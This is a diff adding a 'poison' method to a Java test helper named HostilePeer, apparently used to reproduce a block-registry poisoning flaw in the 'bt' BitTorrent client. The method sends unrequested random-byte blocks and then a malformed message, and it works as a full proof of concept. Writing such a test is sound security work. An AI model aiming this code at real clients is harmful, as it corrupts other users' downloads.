@@ -110,6 +110,54 @@ public final class HostilePeer implements AutoCloseable {
         }
     }
 
+    /**
+     * Leaves garbage in bt's block registry: dials the client for a torrent it serves, sends unrequested blocks
+     * of random bytes for the given piece of <em>any</em> torrent (the registry is keyed by piece and offset
+     * only), then, in the same write, a message of an unknown type. bt decodes and registers the blocks, fails
+     * on the next message and closes the connection, so the blocks' messages are never dispatched and their
+     * buffers stay in the registry, to be taken by the next peer's message for the same piece and offset.
+     * Returns once the client closed the connection.
+     */
+    public static void poison(InetSocketAddress target, byte[] infoHash, int piece, int pieceLength, int blockSize)
+            throws IOException, InterruptedException {
+        Random random = new Random(piece);
+        try (Socket s = new Socket()) {
+            s.connect(target, 2000);
+            s.setSoTimeout(10_000);
+            DataOutputStream out = new DataOutputStream(new java.io.BufferedOutputStream(s.getOutputStream(),
+                    pieceLength + 1024));
+            DataInputStream in = new DataInputStream(s.getInputStream());
+            out.writeByte(19);
+            out.write("BitTorrent protocol".getBytes(StandardCharsets.US_ASCII));
+            out.write(new byte[8]);
+            out.write(infoHash);
+            out.write("-HP0001-poisonpeer!!".getBytes(StandardCharsets.US_ASCII));
+            out.flush();
+            byte[] handshake = new byte[68];
+            in.readFully(handshake);
+            Thread.sleep(300); // bt activates the connection
+            for (int offset = 0; offset < pieceLength; offset += blockSize) {
+                int size = Math.min(blockSize, pieceLength - offset);
+                byte[] junk = new byte[size];
+                random.nextBytes(junk);
+                out.writeInt(9 + size);
+                out.writeByte(7);
+                out.writeInt(piece);
+                out.writeInt(offset);
+                out.write(junk);
+            }
+            out.writeInt(1);
+            out.writeByte(99); // unknown message type: bt drops the connection
+            out.flush();
+            byte[] sink = new byte[4096];
+            while (in.read(sink) >= 0) {
+                // until bt closes
+            }
+        } catch (java.net.SocketException e) {
+            // reset by bt: closed
+        }
+    }
+
     @Override
     public void close() {
         closed = true;
